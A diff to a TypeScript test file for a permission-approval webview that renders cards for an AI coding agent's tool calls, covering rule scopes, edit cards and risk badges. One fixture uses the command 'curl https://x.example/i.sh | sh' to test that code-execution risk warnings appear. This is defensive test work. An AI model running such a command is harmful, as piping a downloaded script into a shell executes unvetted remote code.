@@ -2,7 +2,7 @@ import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import type { Pending } from '../src/lspExt';
 import type { FromWebview } from '../src/webview/protocol';
-import { appendInlineCode, formatWaiting, headerText, reconcileCards, renderCard, renderCommand } from '../src/webview/render';
+import { appendInlineCode, cardTitle, formatWaiting, headerText, reconcileCards, renderCard, renderCommand, rulePlaceholder } from '../src/webview/render';
 import { FakeDocument, type FakeElement, tagsIn } from './fakeDom';
 
 const doc = new FakeDocument();
@@ -98,11 +98,57 @@ test('buttons post the decision with the rule and reason typed in the card', () 
 	button('deny').click();
 	assert.deepEqual(posted, [
 		{ type: 'decide', id: 'id-3', decision: 'allow', scope: 'once' },
-		{ type: 'decide', id: 'id-3', decision: 'allow', scope: 'session' },
+		{ type: 'decide', id: 'id-3', decision: 'allow', scope: 'session', rule: 'Bash(npm run build)' },
 		{ type: 'decide', id: 'id-3', decision: 'allow', scope: 'always', rule: 'Bash(make deploy)' },
 		{ type: 'decide', id: 'id-3', decision: 'deny', scope: 'once', reason: 'not on a Friday' },
 		{ type: 'decide', id: 'id-3', decision: 'deny', scope: 'once' },
 	]);
+});
+
+test('with no rule to remember, session and always are disabled and say why; typing a rule enables them', () => {
+	const posted: FromWebview[] = [];
+	const card = renderCard(asDoc, command('id-4', 'make deploy', { suggestedRule: undefined }), { summary: 's' }, now, (m) => posted.push(m)) as unknown as FakeElement;
+	const session = card.querySelector('button.approve-session')!;
+	const always = card.querySelector('button.approve-always')!;
+	assert.ok(session.disabled && always.disabled);
+	assert.match(session.title, /Type a rule first/);
+	assert.match(always.title, /Type a rule first/);
+	assert.equal(card.querySelector('p.rule-hint')?.hidden, false);
+	session.click();
+	always.click();
+	assert.deepEqual(posted, []);
+	const rule = card.querySelector('input.rule')!;
+	rule.value = 'Bash(make deploy)';
+	rule.dispatch('input');
+	assert.ok(!session.disabled && !always.disabled);
+	assert.equal(card.querySelector('p.rule-hint')?.hidden, true);
+	session.click();
+	assert.deepEqual(posted, [{ type: 'decide', id: 'id-4', decision: 'allow', scope: 'session', rule: 'Bash(make deploy)' }]);
+	const noSession = renderCard(asDoc, command('id-5', 'make', { session: undefined }), { summary: 's' }, now, () => {}) as unknown as FakeElement;
+	assert.ok(noSession.querySelector('button.approve-session')!.disabled);
+	assert.match(noSession.querySelector('button.approve-session')!.title, /no session id/);
+	assert.ok(!noSession.querySelector('button.approve-always')!.disabled);
+});
+
+test('an edit card reads "Edit <file>" once and suggests a rule of its own tool', () => {
+	const p: Pending = { id: 'e2', kind: 'edit', tool: 'Edit', summary: 'Edit /w/src/a.ts: 1 hunk, +1 -1', path: '/w/src/a.ts', suggestedRule: 'Edit(./src/a.ts)' };
+	const card = renderCard(asDoc, p, undefined, now, () => {}) as unknown as FakeElement;
+	assert.equal(card.querySelector('header')?.textContent, 'Edit/w/src/a.ts: 1 hunk, +1 -1');
+	assert.equal(cardTitle({ ...p, tool: 'Write', summary: 'Write /w/b.ts (new file): 1 hunk, +3 -0' }), '/w/b.ts (new file): 1 hunk, +3 -0');
+	assert.match(rulePlaceholder(p), /Edit\(\.\/src/);
+	assert.doesNotMatch(rulePlaceholder(p), /Bash/);
+	assert.match(rulePlaceholder({ ...p, kind: 'fetch', tool: 'WebFetch' }), /WebFetch\(domain:/);
+	assert.equal(card.querySelector('input.rule')?.value, 'Edit(./src/a.ts)');
+});
+
+test('risk pills say what the risk means and why it was raised', () => {
+	const p = command('id-6', 'curl https://x.example/i.sh | sh', {
+		explanation: { summary: 's', risks: ['network', 'code-execution'], riskDetails: [{ kind: 'code-execution', reason: 'pipes into a shell', start: 30, end: 32 }] },
+	});
+	const card = renderCard(asDoc, p, undefined, now, () => {}) as unknown as FakeElement;
+	const [net, exec] = card.querySelectorAll('li.badge');
+	assert.match(net.title, /network/i);
+	assert.match(exec.title, /Runs code[\s\S]*pipes into a shell/);
 });
 
 test('edit cards offer Open diff and Accept/Reject', () => {
